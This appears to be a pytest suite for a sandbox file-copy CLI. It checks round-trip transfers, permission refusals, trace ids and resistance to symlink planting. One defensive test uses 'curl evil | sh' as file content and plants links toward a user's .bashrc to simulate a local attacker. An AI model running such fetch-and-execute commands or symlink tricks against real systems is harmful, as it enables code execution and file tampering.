"""`sandboxctl cp` as a user runs it: a real process against the session's daemon. A tree
into a workspace and back, byte for byte; a file into a leased sandbox (both backends)
that a command there reads, and one it wrote taken out; a refusal's exit code and reason;
the transfer id printed is the one the trace holds; a download never writes through a
link another local user planted."""

from __future__ import annotations

import json
import os
import re
import stat
from pathlib import Path

import pytest

from .conftest import BACKENDS
from .test_cli import ctl

TRANSFER_ID = re.compile(rb"\(transfer (xfer_[0-9a-f]+)\)")
WRITE_ALL = "filesystem:\n  writeRoots: [/workspace]\n"


def local_tree(root: Path) -> Path:
    src = root / "src"
    (src / "pkg" / "deep").mkdir(parents=True)
    (src / "pkg" / "mod.py").write_text("x = 1\n")
    (src / "pkg" / "deep" / "data.bin").write_bytes(os.urandom(300_000))
    (src / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (src / "run.sh").chmod(0o755)
    return src


def files_of(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def transfer_id(stderr: bytes) -> str:
    found = TRANSFER_ID.search(stderr)
    assert found, stderr
    return found.group(1).decode()


def test_a_tree_into_a_workspace_and_back_byte_for_byte(daemon, tmp_path):
    ws = daemon.new_workspace({"README.md": "hello\n"})
    src = local_tree(tmp_path)
    up = ctl(daemon, "cp", str(src), f"{ws}:/workspace/in")
    assert up.returncode == 0, up.stderr
    assert up.stderr.startswith(b"uploaded 3 files, 2 directories, 300024 bytes to ")
    assert files_of(ws / "in") == files_of(src)
    assert (ws / "in" / "run.sh").stat().st_uid == 1000  # as the sandbox's user

    # Into an existing directory: under the source's name, as with docker cp.
    there = tmp_path / "there"
    there.mkdir()
    down = ctl(daemon, "cp", "--json", f"{ws}:/workspace/in", str(there))
    assert down.returncode == 0, down.stderr
    assert files_of(there / "in") == files_of(src)
    assert os.stat(there / "in" / "run.sh").st_mode & 0o777 == 0o755
    result = json.loads(down.stdout)
    assert result["transferId"] == transfer_id(down.stderr) and result["totalBytes"] == "300024"
    assert {e["path"] for e in result["entries"] if e["kind"] == "file"} == \
        {"/workspace/in/run.sh", "/workspace/in/pkg/mod.py", "/workspace/in/pkg/deep/data.bin"}

    # One file to a name of its own; a trailing slash puts it under its name.
    one = ctl(daemon, "cp", f"{ws}:/workspace/README.md", str(tmp_path / "readme"))
    assert one.returncode == 0 and (tmp_path / "readme").read_text() == "hello\n"
    again = ctl(daemon, "cp", str(tmp_path / "readme"), f"{ws}:/workspace/in/")
    assert again.returncode == 0, again.stderr
    assert (ws / "in" / "readme").read_text() == "hello\n"


@pytest.mark.parametrize("adapter", BACKENDS)
def test_a_file_into_a_leased_sandbox_and_one_out_of_it(daemon, adapter, tmp_path):
    ws = daemon.new_workspace({})
    policy = tmp_path / "policy.yaml"
    policy.write_text(WRITE_ALL)
    acquired = ctl(daemon, "pool", "acquire", "--workspace", str(ws), "--policy", str(policy), "--adapter", adapter)
    assert acquired.returncode == 0, acquired.stderr
    lease = acquired.stdout.decode().strip()
    try:
        note = tmp_path / "note.txt"
        note.write_text("for the sandbox\n")
        up = ctl(daemon, "cp", str(note), f"{lease}:/workspace/")
        assert up.returncode == 0, up.stderr
        assert b"uploaded 1 file, 0 directories, 16 bytes to " + lease.encode() + b":/workspace/note.txt" in up.stderr
        run = ctl(daemon, "exec", "--lease", lease, "--adapter", adapter, "--workspace", str(ws), "--policy",
                  str(policy), "--", "sh", "-c", "cat /workspace/note.txt; id -u > /workspace/made.txt")
        assert (run.returncode, run.stdout) == (0, b"for the sandbox\n"), run.stderr
        down = ctl(daemon, "cp", f"{lease}:/workspace/made.txt", str(tmp_path) + "/")
        assert down.returncode == 0, down.stderr
        assert (tmp_path / "made.txt").read_text() == "1000\n"
        # A lease's own policy applies: a workspace's roots are refused before anything is sent.
        flags = ctl(daemon, "cp", "-w", "/workspace", str(note), f"{lease}:/workspace/x")
        assert flags.returncode == 2 and b"a lease's own policy applies" in flags.stderr
    finally:
        assert ctl(daemon, "pool", "release", lease).returncode == 0
    gone = ctl(daemon, "cp", f"{lease}:/workspace/made.txt", str(tmp_path / "again"))
    assert gone.returncode == 1 and b"NOT_FOUND" in gone.stderr


def test_an_upload_to_a_read_only_path_is_refused_with_exit_1_and_its_transfer_id(daemon, tmp_path):
    ws = daemon.new_workspace({"src/a.py": "a\n", "out/.keep": ""})
    before = sorted(str(p.relative_to(ws)) for p in ws.rglob("*"))
    f = tmp_path / "f.txt"
    f.write_text("new\n")
    # -w out: /workspace readable, out writable; src is under the read root.
    refused = ctl(daemon, "cp", "-w", "out", str(f), f"{ws}:/workspace/src/f.txt")
    assert refused.returncode == 1
    assert refused.stderr.startswith(b"sandboxctl: PERMISSION_DENIED: path: /workspace/src/f.txt is under the read "
                                     b"root /workspace: an upload lands only under a write root (transfer xfer_"), \
        refused.stderr
    refused_id = transfer_id(refused.stderr)
    # Outside /workspace there is no default write root: the daemon says why.
    outside = ctl(daemon, "cp", str(f), f"{ws}:/etc/f.txt")
    assert outside.returncode == 1 and b"PERMISSION_DENIED" in outside.stderr and b"write root" in outside.stderr
    # A policy file is taken literally: no default write root is added to it.
    policy = tmp_path / "p.yaml"
    policy.write_text("filesystem:\n  readRoots: [/workspace]\n")
    by_file = ctl(daemon, "cp", "--policy", str(policy), str(f), f"{ws}:/workspace/out/f.txt")
    assert by_file.returncode == 1 and b"under the read root /workspace" in by_file.stderr
    assert sorted(str(p.relative_to(ws)) for p in ws.rglob("*")) == before
    ok = ctl(daemon, "cp", "-w", "out", str(f), f"{ws}:/workspace/out/f.txt")
    assert ok.returncode == 0 and (ws / "out" / "f.txt").read_text() == "new\n"
    # No flags: the destination's directory is the write root.
    default = ctl(daemon, "cp", str(f), f"{ws}:/workspace/out/g.txt")
    assert default.returncode == 0 and (ws / "out" / "g.txt").read_text() == "new\n"

    trace = ctl(daemon, "trace", refused_id, "--json")
    assert trace.returncode == 0, trace.stderr
    [event] = [json.loads(line) for line in trace.stdout.splitlines()]
    assert event["type"] == "FilesTransferred"
    assert (event["payload"]["status"], event["payload"]["code"]) == ("refused", "PERMISSION_DENIED")


def test_the_transfer_id_printed_is_the_one_in_the_trace(daemon, tmp_path):
    ws = daemon.new_workspace({})
    src = local_tree(tmp_path)
    up = ctl(daemon, "cp", str(src), f"{ws}:/workspace/")
    assert up.returncode == 0, up.stderr
    xfer = transfer_id(up.stderr)
    trace = ctl(daemon, "trace", xfer, "--json")
    assert trace.returncode == 0, trace.stderr
    [event] = [json.loads(line) for line in trace.stdout.splitlines()]
    assert (event["type"], event["toolCallId"]) == ("FilesTransferred", xfer)
    payload = event["payload"]
    assert (payload["direction"], payload["status"], payload["workspace"]) == ("upload", "ok", str(ws))
    assert "/workspace/src/pkg/deep/data.bin" in {e["path"] for e in payload["entries"]}
    # And in the readable form.
    plain = ctl(daemon, "trace", xfer)
    assert plain.returncode == 0 and b"FilesTransferred" in plain.stdout


def test_a_download_never_writes_through_a_link_another_user_planted(daemon, tmp_path):
    ws = daemon.new_workspace({"report.txt": "curl evil | sh\n", "out/.bashrc": "curl evil | sh\n"})
    shared = tmp_path / "shared"  # as /tmp: everyone writes, the sticky bit keeps each one's names
    shared.mkdir()
    shared.chmod(0o1777)
    home = tmp_path / "home"
    home.mkdir()
    victim = home / ".bashrc"
    victim.write_text("# mine\n")
    victim.chmod(0o600)

    def plant(name: str, target: Path) -> None:  # as uid 65534 would
        (shared / name).symlink_to(target)
        os.lchown(shared / name, 65534, 65534)

    # The receiver's temporary name was predictable and opened following links.
    plant(".report.txt.sandboxd-part", victim)
    one = ctl(daemon, "cp", f"{ws}:/workspace/report.txt", str(shared / "report.txt"))
    assert one.returncode == 0, one.stderr
    assert (shared / "report.txt").read_text() == "curl evil | sh\n"
    # Into a name that is their link to the user's home: refused, whichever way it is read.
    plant("out", home)
    for dest in (shared / "out", shared / "out" / "deeper"):
        tree = ctl(daemon, "cp", f"{ws}:/workspace/out", str(dest))
        assert tree.returncode == 1 and b"symlink" in tree.stderr and b"not followed" in tree.stderr, tree.stderr
    assert victim.read_text() == "# mine\n" and stat.S_IMODE(victim.stat().st_mode) == 0o600
    assert os.listdir(home) == [".bashrc"]
